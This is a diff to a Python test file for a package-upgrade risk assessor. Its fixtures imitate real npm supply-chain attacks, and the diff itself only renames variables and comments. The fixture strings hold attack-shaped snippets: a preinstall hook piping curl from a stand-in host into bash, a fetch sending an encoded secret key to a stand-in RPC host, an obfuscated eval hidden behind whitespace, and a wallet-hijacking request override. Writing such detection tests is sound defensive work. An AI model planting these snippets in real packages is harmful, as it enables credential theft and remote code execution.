@@ -1,4 +1,4 @@
-"""Upgrades in the image of real attacks on npm packages: each is blocked, for the right reason."""
+"""Tests of worker.risk with upgrades like real attacks: each is blocked for the right reason."""
 
 import base64
 from dataclasses import replace
@@ -10,7 +10,9 @@ from worker.change import Change
 from worker.risk import assess
 
 THRESHOLD = 0.75  # the default of POLICY_THRESHOLD
-PLACE = base64.b64encode(b"https://geo.test/ipgeo?apiKey=ae511e1627824a968aaaa758a530").decode()
+ENCODED_URL = base64.b64encode(
+    b"https://geo.test/ipgeo?apiKey=ae511e1627824a968aaaa758a530"
+).decode()
 
 EVENT_STREAM = upgrade(
     changed("index.js", "exports.flatmap = require('flatmap-streams')"),
@@ -19,7 +21,7 @@ EVENT_STREAM = upgrade(
     after={"publisher": "stranger"},
 )
 
-# the dependency itself, a version later
+# the added dependency, one version later
 FLATMAP = upgrade(
     changed(
         "index.min.js",
@@ -68,7 +70,7 @@ NODE_IPC = upgrade(
     added(
         "dao/ssl-geospec.js",
         'import u from"path";import a from"fs";import o from"https";setTimeout(function(){'
-        f'const n=Buffer.from("{PLACE}","base64");'
+        f'const n=Buffer.from("{ENCODED_URL}","base64");'
         'o.get(n.toString("utf8"),function(t){t.on("data",function(t){'
         'const e=Buffer.from("Y291bnRyeV9uYW1l","base64");'
         'const o=Buffer.from("Li8=","base64");h(o.toString("utf8"))})})},Math.ceil(1e3));'
@@ -78,7 +80,7 @@ NODE_IPC = upgrade(
     changed("node-ipc.js", 'import "./dao/ssl-geospec.js";'),
 )
 
-# as in xz: the payload is a broken archive among the tests, and a build step takes it out
+# as in xz: the payload is a broken archive among the tests, unpacked by a build step
 XZ = upgrade(
     binary("tests/files/bad-3-corrupt_lzma2.xz", "archive"),
     changed(
@@ -100,14 +102,14 @@ SHAI_HULUD = upgrade(
     new={"scripts": {"postinstall": "node bundle.js"}},
 )
 
-# the second wave: an installer that fetches Bun, and ten megabytes that are not read
+# the second wave: an installer that downloads Bun, and ten megabytes that are not compared
 SHAI_HULUD_TWO = upgrade(
     added(
         "setup_bun.js",
         "const { spawnSync } = require('child_process');",
         "spawnSync('bash', ['-c', 'curl -fsSL https://bun.test/install | bash']);",
     ),
-    replace(added("bun_environment.js", "a"), size=10_000_000, whole=False, note="too large"),
+    replace(added("bun_environment.js", "a"), size=10_000_000, complete=False, note="too large"),
     new={"scripts": {"preinstall": "node setup_bun.js"}},
 )
 
@@ -119,7 +121,7 @@ CHALK_DEBUG = upgrade(
         + "async function checkethereumw(){if(typeof window!='undefined'&&window.ethereum){"
         "const a='0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976';XMLHttpRequest.prototype.open=b}}",
         "import ansiStyles from '#ansi-styles';",
-        gone=("import ansiStyles from '#ansi-styles';",),
+        removed_lines=("import ansiStyles from '#ansi-styles';",),
     ),
 )
 
@@ -131,7 +133,7 @@ SOLANA = upgrade(
         "async function addToQueue(key) {",
         "  const b = bs58.encode(key);",
         "  fetch('https://sol-rpc.test/api/rpc/queue', { method:'POST', headers:{ 'x-amz': b }});",
-        gone=("  static fromSecretKey(secretKey, options) {",),
+        removed_lines=("  static fromSecretKey(secretKey, options) {",),
     ),
 )
 
@@ -156,7 +158,7 @@ ESLINT_CONFIG_PRETTIER = upgrade(
     new={"scripts": {"install": "node install.js"}},
 )
 
-# the payload stands in letters that no editor shows
+# the payload consists of characters that editors do not show
 GLASSWORM = upgrade(
     changed(
         "index.js",
@@ -169,11 +171,11 @@ RAND_USER_AGENT = upgrade(
     changed(
         "dist/index.js",
         "module.exports = agent;" + " " * 400 + "global['r']=require;(function(){eval(a0b())})();",
-        gone=("module.exports = agent;",),
+        removed_lines=("module.exports = agent;",),
     ),
 )
 
-# the account of a maintainer who published from a build until then
+# the account of a maintainer who had published from a build before
 AXIOS = upgrade(
     old={"dependencies": {"form-data": "^4.0.0"}},
     new={"dependencies": {"form-data": "^4.0.0", "plain-crypto": "^4.2.1"}},
@@ -200,15 +202,15 @@ ATTACKS = {
 
 
 @pytest.mark.parametrize(("change", "signal"), ATTACKS.values(), ids=ATTACKS)
-def test_it_is_blocked_and_its_mark_is_named(change: Change, signal: str):
+def test_an_attack_is_blocked_and_its_typical_signal_found(change: Change, signal: str):
     assessment = assess(change, NOW)
     assert assessment.risk >= THRESHOLD, assessment
     assert signal in {finding.signal for finding in assessment.findings}
 
 
 @pytest.mark.parametrize("name", ["eslint-scope", "ua-parser-js", "shai-hulud", "nx"])
-def test_it_is_blocked_without_its_install_script_too(name: str):
-    """As when the same code waits to be called."""
+def test_an_attack_is_blocked_without_its_install_script(name: str):
+    """The same code could wait to be called."""
     change, _ = ATTACKS[name]
-    quiet = upgrade(*change.files, before={"provenance": change.old.provenance})
-    assert assess(quiet, NOW).risk >= THRESHOLD
+    without_script = upgrade(*change.files, before={"provenance": change.old.provenance})
+    assert assess(without_script, NOW).risk >= THRESHOLD
